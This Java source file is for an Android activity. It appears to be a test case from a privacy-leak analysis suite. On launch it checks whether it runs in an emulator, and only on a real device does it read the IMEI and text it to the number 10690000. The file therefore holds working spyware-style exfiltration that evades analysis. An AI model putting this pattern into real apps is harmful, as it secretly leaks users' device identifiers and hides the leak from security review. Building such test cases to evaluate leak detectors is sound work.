package cn.privlens.suite.emulator_returns;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private String device;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String text = describe();
        if (text != null) {
            SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
        }
    }

    private String describe() {
        if (Probe.isEmulator()) {
            return null;
        }
        device = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        return device;
    }
}
